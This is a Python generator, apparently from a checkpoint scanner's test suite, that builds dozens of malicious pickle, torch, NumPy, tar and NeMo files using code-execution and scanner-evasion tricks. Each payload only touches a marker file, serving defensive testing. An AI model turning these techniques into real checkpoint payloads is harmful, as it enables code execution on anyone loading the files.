"""The malicious corpus, generated: one checkpoint per way of running code
from a load, each written fresh (no binaries in the repository).

    python -m tests.malicious.generate OUT

writes OUT/<name>/... for each sample and OUT/manifest.json ({name: {path,
loader, technique}}); tests/test_malicious_corpus.py writes them one by
one, runs each under its loader in a throwaway subprocess to see its
payload run (it creates the marker file), and checks that `ckptfs scan`
calls every one dangerous; bench/scan_bench.py runs the other scanners on
them. A payload only creates its marker file (pip.main: `pip --log MARKER
list`, offline).

Each sample's `write(folder, marker)` returns the path to load and to
scan; `loader` names how it is loaded (LOADERS, run by `load.py`).
"""

from __future__ import annotations

import functools
import io
import json
import operator
import os
import pickle
import runpy
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

#: how each loader loads a path (run by tests/malicious/load.py, in a child)
LOADERS = {
    "torch": "torch.load(PATH, weights_only=False)",
    "pickle": "pickle.load(open(PATH, 'rb'))",
    "pickle twice": "f = open(PATH, 'rb'); pickle.load(f); pickle.load(f)",
    "numpy": "np.load(PATH, allow_pickle=True)  # and every record of an .npz",
    "dcp": "torch.distributed.checkpoint.format_utils.dcp_to_torch_save(PATH, ...)",
    "nemo 2": "dcp_to_torch_save(PATH/weights, ...), as NeMo 2 loads a checkpoint folder's weights",
    "nemo": "tarfile.extractall, then torch.load(model_weights.ckpt, weights_only=False), as NeMo restores",
}


@dataclass(frozen=True)
class Sample:
    write: Callable[[Path, Path], Path]
    loader: str
    technique: str


class R:
    """Pickles as `func(*args)`: a REDUCE. `func` may be an R itself."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):  # pickle wants a callable where it writes the call
        raise TypeError("a stand-in for what the pickle calls")


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _file(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _system(marker: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(R(os.system, _touch(marker)), protocol=protocol)


def _pickled(name: str, payload: Callable[[Path], object], protocol: int = 2) -> Callable[[Path, Path], Path]:
    return lambda folder, marker: _file(folder, name, pickle.dumps(payload(marker), protocol=protocol))


def _torch_save(obj) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _torch_file(name: str, payload: Callable[[Path], object]) -> Callable[[Path, Path], Path]:
    def write(folder: Path, marker: Path) -> Path:
        import torch

        return _file(folder, name, _torch_save({"w": torch.ones(2), "x": payload(marker)}))

    return write


# -- the classic ways


def _getattr_chain(marker: Path):
    return R(R(getattr, R(__import__, "os"), "system"), _touch(marker))


def _methodcaller(marker: Path):
    return R(R(operator.methodcaller, "system", _touch(marker)), R(__import__, "os"))


def _partial(marker: Path):
    return R(functools.partial(os.system, _touch(marker)))


def _pickle_loads(marker: Path):
    return R(pickle.loads, _system(marker))


def _runpy(marker: Path):
    return R(runpy._run_module_code, _python(marker), None, "payload")


def _pip(marker: Path):
    import pip

    return R(pip.main, ["--log", str(marker), "--no-input", "--disable-pip-version-check", "list"])


def _load_from_bytes(marker: Path):
    import torch

    return R(torch.storage._load_from_bytes, _torch_save({"x": R(os.system, _touch(marker))}))


def _numpy_load(folder: Path, marker: Path) -> Path:
    import numpy

    inner = _file(folder, "inner.bin", _system(marker))
    return _file(folder, "outer.pkl", pickle.dumps(R(numpy.load, str(inner), None, True), protocol=2))


def _marshal(folder: Path, marker: Path) -> Path:
    """types.FunctionType(marshal.loads(CODE), {})(), spelled by hand:
    pickle will not write a reference to FunctionType."""
    import marshal

    code = marshal.dumps(compile(_python(marker), "<payload>", "exec"))
    body = b"ctypes\nFunctionType\ncmarshal\nloads\nB" + struct.pack("<I", len(code)) + code + b"\x85R}\x86R)R."
    return _file(folder, "marshal.pkl", b"\x80\x03" + body)


def _str0(text: str) -> bytes:
    """A protocol-0 STRING (the paths here hold no quote or backslash)."""
    return b"S'" + text.encode() + b"'\n"


def _inst(folder: Path, marker: Path) -> Path:
    return _file(folder, "inst.pkl", b"(" + _str0(_touch(marker)) + b"ios\nsystem\n.")


def _obj(folder: Path, marker: Path) -> Path:
    return _file(folder, "obj.pkl", b"(cos\nsystem\n" + _str0(_touch(marker)) + b"o.")


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _stack_global_memo(folder: Path, marker: Path) -> Path:
    """STACK_GLOBAL's two strings put in the memo, popped, and fetched back."""
    body = b"\x8c\x02os\x94\x8c\x06system\x94" + b"00" + b"h\x00h\x01\x93" + _unicode(_touch(marker)) + b"\x85R."
    return _file(folder, "memo.pkl", b"\x80\x04" + body)


def _stack_global_computed(folder: Path, marker: Path) -> Path:
    """STACK_GLOBAL's name made while loading: str(b'system', 'ascii')."""
    name = b"cbuiltins\nstr\nC\x06system\x8c\x05ascii\x86R"
    return _file(folder, "computed.pkl", b"\x80\x04\x8c\x02os" + name + b"\x93" + _unicode(_touch(marker)) + b"\x85R.")


# -- zip tricks


def _data_pkl_renamed(folder: Path, marker: Path) -> Path:
    import torch

    plain = _torch_save({"w": torch.ones(2), "x": R(os.system, _touch(marker))})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename.replace("data.pkl", "DATA.PKL"), src.read(info))
    return _file(folder, "renamed.pt", out.getvalue())


def _zip_pair_torch(folder: Path, marker: Path) -> Path:
    """A malicious torch.save zip, then a benign one of the same layout
    appended. miniz (torch.load) takes the end record's offsets as written,
    which lead into the first; zipfile takes the bytes before the second
    for prepended data, and reads the second."""
    import torch

    evil = _torch_save({"w": torch.ones(2), "x": R(os.system, _touch(marker))})
    for n in range(1, 4096):  # a benign string that makes data.pkl, and so every offset, the same
        benign = _torch_save({"w": torch.ones(2), "x": "a" * n})
        if len(benign) == len(evil) and _offsets(benign) == _offsets(evil):
            return _file(folder, "pair.pt", evil + benign)
    raise AssertionError("no benign archive of the malicious one's layout")


def _offsets(archive: bytes) -> list[tuple[str, int, int]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        return [(i.filename, i.header_offset, i.compress_size) for i in z.infolist()]


def _zip_pair_npz(folder: Path, marker: Path) -> Path:
    """A benign .npz, then one with an object array appended: np.load reads
    the last through zipfile."""
    import numpy as np

    benign, evil = io.BytesIO(), io.BytesIO()
    np.savez(benign, a=np.arange(3))
    np.savez(evil, a=np.array([R(os.system, _touch(marker))], dtype=object))
    return _file(folder, "pair.npz", benign.getvalue() + evil.getvalue())


def _npz_marked_empty(folder: Path, marker: Path) -> Path:
    """An .npz of an object array behind the bytes of an empty zip's end
    record: np.load takes a file that starts so for a zip, and zipfile skips
    what stands before the archive."""
    import numpy as np

    evil = io.BytesIO()
    np.savez(evil, a=np.array([R(os.system, _touch(marker))], dtype=object))
    return _file(folder, "marked.npz", b"PK\x05\x06\n" + evil.getvalue())


# -- files that are two things at once


def _safetensors_lookalike(folder: Path, marker: Path) -> Path:
    """A pickle whose ninth byte is '{', as a safetensors header's is."""
    body = b"X\x02\x00\x00\x00a{0" + b"cposix\nsystem\n" + _unicode(_touch(marker)) + b"\x85R."
    return _file(folder, "weights.pt", b"\x80\x02" + body)


def _tar_pickle(folder: Path, marker: Path) -> Path:
    """A tar whose first header is the start of a pickle: PROTO, then a
    BINBYTES of the rest of the header (its name field holds the opcode
    and the length); the pickle goes on in the member's bytes. pickle.load
    and np.load read the file from its first byte."""
    body = b"0cposix\nsystem\n" + _unicode(_touch(marker)) + b"\x85R."
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tar:
        _tar_member(tar, os.fsdecode(b"\x80\x03B" + struct.pack("<I", 512 - 7)).rstrip("\0"), body)
    return _file(folder, "archive.tar", out.getvalue())


# -- torch's own formats


def _tar_member(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def _torch_tar(folder: Path, name: str, views: object, obj: object) -> Path:
    """torch's tar format (before 1.0), as torch.load reads it: one float
    storage of two elements; `views` is the pickle after its raw bytes."""
    import torch

    storages = (pickle.dumps(1, protocol=2) + pickle.dumps(("0", "cpu", torch.FloatStorage), protocol=2)
                + struct.pack("<q", 2) + struct.pack("<2f", 1, 2) + pickle.dumps(views, protocol=2))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        _tar_member(tar, "storages", storages)
        _tar_member(tar, "tensors", pickle.dumps(0, protocol=2))
        _tar_member(tar, "pickle", pickle.dumps(obj, protocol=2))
    return _file(folder, name, buf.getvalue())


def _legacy_protocol_0(folder: Path, marker: Path) -> Path:
    """A legacy torch.save file whose first pickles are protocol 0: the
    magic number, the version and, as its system info, the payload."""
    import torch

    real = io.BytesIO()
    torch.save({"w": torch.ones(2)}, real, _use_new_zipfile_serialization=False)
    data = real.getvalue()
    stream = io.BytesIO(data)
    for _ in range(3):
        pickle.load(stream)
    head = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=0) + pickle.dumps(1001, protocol=0) + _system(marker, 0)
    return _file(folder, "legacy.pt", head + data[stream.tell():])


# -- what pickletools cannot read but pickle.load can


def _int_base_0(folder: Path, marker: Path) -> Path:
    return _file(folder, "int.pkl", b"I0x0\n0" + _system(marker, 0))


def _utf8_string(folder: Path, marker: Path) -> Path:
    """torch.load unpickles a non-zip with encoding='utf-8': a STRING of
    UTF-8 bytes loads there (pickletools and encoding='ASCII' fail)."""
    return _file(folder, "utf8.pt", b"S'\xc3\xa9t\xc3\xa9'\n0" + _system(marker, 0))


# -- NumPy object arrays


def _npy(folder: Path, name: str, header: str, version: int, marker: Path) -> Path:
    """An .npy of one object, its header written out as given."""
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([R(os.system, _touch(marker))], dtype=object), allow_pickle=True)
    data = buf.getvalue()
    objects = data[10 + struct.unpack("<H", data[8:10])[0]:]
    text = (header + "\n").encode("latin-1")
    length = struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))
    return _file(folder, name, b"\x93NUMPY" + bytes([version, 0]) + length + text + objects)


# -- archives and folders that hide where the bytes are


def _evil_zip(marker: Path) -> bytes:
    import torch

    return _torch_save({"w": torch.ones(2), "x": R(os.system, _touch(marker))})


def _nemo_hard_link(folder: Path, marker: Path) -> Path:
    """model_weights.ckpt, a hard link to a member named as a shard."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        _tar_member(tar, "./model_config.yaml", b"target: x\n")
        _tar_member(tar, "./cache/shard.distcp", _evil_zip(marker))
        link = tarfile.TarInfo("./model_weights.ckpt")
        link.type, link.linkname = tarfile.LNKTYPE, "./cache/shard.distcp"
        tar.addfile(link)
    return _file(folder, "linked.nemo", buf.getvalue())


def _gnu_sparse_header(name: str, pieces: list[tuple[int, int]], stored: int, real: int) -> bytes:
    """An old GNU sparse header ('S'): up to four (offset, length) pieces in it."""
    def octal(n: int, width: int) -> bytes:
        return b"%0*o\0" % (width - 1, n)

    block = bytearray(512)
    block[0:len(name)] = name.encode()
    block[100:108], block[108:116], block[116:124] = octal(0o644, 8), octal(0, 8), octal(0, 8)
    block[124:136], block[136:148] = octal(stored, 12), octal(0, 12)
    block[156:157], block[257:265] = b"S", b"ustar  \0"
    for n, (offset, length) in enumerate(pieces):
        block[386 + 24 * n : 398 + 24 * n], block[398 + 24 * n : 410 + 24 * n] = octal(offset, 12), octal(length, 12)
    block[483:495] = octal(real, 12)
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def _nemo_sparse(folder: Path, marker: Path) -> Path:
    """model_weights.ckpt as a GNU sparse member: its stored pieces, with
    a hole of zeros that extraction puts back between them."""
    data = _evil_zip(marker)
    hole = data.find(b"\0" * 8)
    pieces = [(0, hole), (hole + 8, len(data) - hole - 8)] if hole > 0 else [(0, len(data))]
    stored = b"".join(data[o : o + n] for o, n in pieces)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        _tar_member(tar, "./model_config.yaml", b"target: x\n")
    archive = buf.getvalue().rstrip(b"\0")
    archive += b"\0" * (-len(archive) % 512)
    member = _gnu_sparse_header("./model_weights.ckpt", pieces, len(stored), len(data))
    member += stored + b"\0" * (-len(stored) % 512)
    return _file(folder, "sparse.nemo", archive + member + b"\0" * 1024)


def _dcp_with_item(out: Path, marker: Path | None) -> None:
    """A distributed checkpoint with a byte item; with `marker`, the item's
    bytes are a bare pickle that runs the payload (torch.load reads it
    whatever it holds)."""
    import torch
    import torch.distributed.checkpoint as dcp

    dcp.save({"w": torch.arange(6.0), "extra": {"note": "x" * 200}}, storage_writer=dcp.FileSystemWriter(str(out)),
             no_dist=True)
    if marker is None:
        return
    with open(out / ".metadata", "rb") as f:
        metadata = pickle.load(f)
    [(index, info)] = [(i, s) for i, s in metadata.storage_data.items() if i.fqn == "extra.note"]
    payload = _system(marker)
    assert len(payload) <= info.length
    with open(out / info.relative_path, "r+b") as f:
        f.seek(info.offset)
        f.write(payload + b"\0" * (info.length - len(payload)))


def _dcp_raw_pickle(folder: Path, marker: Path) -> Path:
    _dcp_with_item(folder / "dcp", marker)
    return folder / "dcp"


def _weights_link(folder: Path, marker: Path) -> Path:
    """A NeMo 2-style folder whose weights/ is a link to a folder elsewhere."""
    _dcp_with_item(folder / "store" / "weights", marker)
    (folder / "ckpt").mkdir()
    (folder / "ckpt" / "context.yaml").write_text("model: x\n")
    (folder / "ckpt" / "weights").symlink_to(folder / "store" / "weights", target_is_directory=True)
    return folder / "ckpt"


_P0 = "a pickle of protocol 0 (no PROTO marker)"
SAMPLES: dict[str, Sample] = {
    "os.system in data.pkl": Sample(_torch_file("system.pt", lambda m: R(os.system, _touch(m))), "torch", "os.system"),
    "builtins.eval": Sample(_pickled("eval.pkl", lambda m: R(eval, _python(m))), "pickle", "eval"),
    "builtins.exec": Sample(_pickled("exec.pkl", lambda m: R(exec, _python(m))), "pickle", "exec"),
    "builtins.getattr chain": Sample(_pickled("getattr.pkl", _getattr_chain), "pickle", "getattr(__import__('os'), 'system')"),
    "operator.methodcaller": Sample(_pickled("operator.pkl", _methodcaller), "pickle", "operator"),
    "functools.partial": Sample(_pickled("partial.pkl", _partial), "pickle", "functools.partial"),
    "pickle.loads": Sample(_pickled("loads.pkl", _pickle_loads), "pickle", "pickle.loads of a second pickle"),
    "runpy": Sample(_pickled("runpy.pkl", _runpy), "pickle", "runpy._run_module_code"),
    "pip.main": Sample(_pickled("pip.pkl", _pip), "pickle", "pip.main (pip --log MARKER list)"),
    "torch.storage._load_from_bytes": Sample(_torch_file("from_bytes.pt", _load_from_bytes), "torch",
                                             "torch.storage._load_from_bytes of a second torch.save"),
    "numpy.load": Sample(_numpy_load, "pickle", "numpy.load of a second file with allow_pickle"),
    "marshal": Sample(_marshal, "pickle", "types.FunctionType(marshal.loads(code))"),
    "INST": Sample(_inst, "pickle", "INST (protocol 0)"),
    "OBJ": Sample(_obj, "pickle", "OBJ (protocol 1)"),
    "STACK_GLOBAL through the memo": Sample(_stack_global_memo, "pickle", "STACK_GLOBAL, names through the memo"),
    "STACK_GLOBAL of a computed name": Sample(_stack_global_computed, "pickle", "STACK_GLOBAL, a name made by a call"),
    "DATA.PKL record": Sample(_data_pkl_renamed, "torch", "zip: data.pkl renamed DATA.PKL (miniz ignores case)"),
    "concatenated zips, malicious first": Sample(_zip_pair_torch, "torch",
                                                 "zip: two archives back to back, torch reads the first"),
    "concatenated zips, malicious second": Sample(_zip_pair_npz, "numpy",
                                                  "zip: two archives back to back, np.load reads the last"),
    "torch tar format, pickle member": Sample(lambda f, m: _torch_tar(f, "old.tar", [], R(os.system, _touch(m))),
                                              "torch", "torch's tar format: the object pickle"),
    "torch tar format, pickle after storage bytes": Sample(
        lambda f, m: _torch_tar(f, "views.tar", R(os.system, _touch(m)), {"a": 1}), "torch",
        "torch's tar format: the storage views pickle after raw storage bytes"),
    "protocol 0 in model_best.pth.tar": Sample(lambda f, m: _file(f, "model_best.pth.tar", _system(m, 0)), "torch", _P0),
    "protocol 1 in a .dat": Sample(lambda f, m: _file(f, "weights.dat", _system(m, 1)), "pickle",
                                   "a pickle of protocol 1 (no PROTO marker)"),
    "protocol 0 in a .data": Sample(lambda f, m: _file(f, "model.data", _system(m, 0)), "pickle", _P0),
    "a second pickle after the first": Sample(
        lambda f, m: _file(f, "two.pkl", pickle.dumps({"w": [1.0]}, protocol=2) + _system(m, 0)), "pickle twice",
        "a second pickle after a benign first"),
    "protocol 0 named .npy": Sample(lambda f, m: _file(f, "array.npy", _system(m, 0)), "numpy",
                                    "a protocol-0 pickle in an .npy without the NumPy magic"),
    "legacy torch.save of protocol 0": Sample(_legacy_protocol_0, "torch",
                                              "a legacy torch.save file whose first pickles are protocol 0"),
    "INT in base 0": Sample(_int_base_0, "pickle", "INT 0x0 (pickletools reads base 10 only)"),
    "STRING of UTF-8": Sample(_utf8_string, "torch", "STRING of UTF-8 bytes (pickletools reads ASCII only)"),
    "object .npy, double quotes": Sample(
        lambda f, m: _npy(f, "quoted.npy", '{"descr": "|O", "fortran_order": False, "shape": (1,), }', 1, m),
        "numpy", 'an object array whose header spells its dtype "|O"'),
    "object .npy, 'object'": Sample(
        lambda f, m: _npy(f, "word.npy", "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", 1, m),
        "numpy", "an object array whose header spells its dtype 'object'"),
    "object .npy, dtype past 64 KiB": Sample(
        lambda f, m: _npy(f, "far.npy", "{'fortran_order': False, 'shape': (1,), " + " " * 70_000 + "'descr': '|O'}",
                          2, m), "numpy", "an object array whose header names its dtype past its first 64 KiB"),
    ".nemo, model_weights.ckpt a hard link": Sample(_nemo_hard_link, "nemo", "tar: a hard link member"),
    ".nemo, model_weights.ckpt sparse": Sample(_nemo_sparse, "nemo", "tar: a GNU sparse member"),
    "folder whose weights/ is a link": Sample(_weights_link, "nemo 2", "a folder's weights/ a link to a folder elsewhere"),
    "distributed checkpoint, a bare pickle item": Sample(_dcp_raw_pickle, "dcp",
                                                         "a distributed checkpoint's byte item that is a raw pickle"),
    "a pickle that looks like safetensors": Sample(_safetensors_lookalike, "torch",
                                                   "a pickle whose ninth byte is '{', as in a safetensors header"),
    "a tar that is a pickle": Sample(_tar_pickle, "pickle", "a tar whose first header starts a pickle"),
    "an .npz behind an empty zip's end record": Sample(_npz_marked_empty, "numpy",
                                                        "zip: 'PK\\5\\6' first, which np.load takes for a zip"),
}


def main(out: Path) -> None:
    manifest = {}
    for n, (name, sample) in enumerate(SAMPLES.items()):
        folder = out / f"{n:02d}"
        folder.mkdir(parents=True)
        path = sample.write(folder, folder / "ran")
        manifest[name] = {"path": str(path.relative_to(out)), "loader": sample.loader, "technique": sample.technique}
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
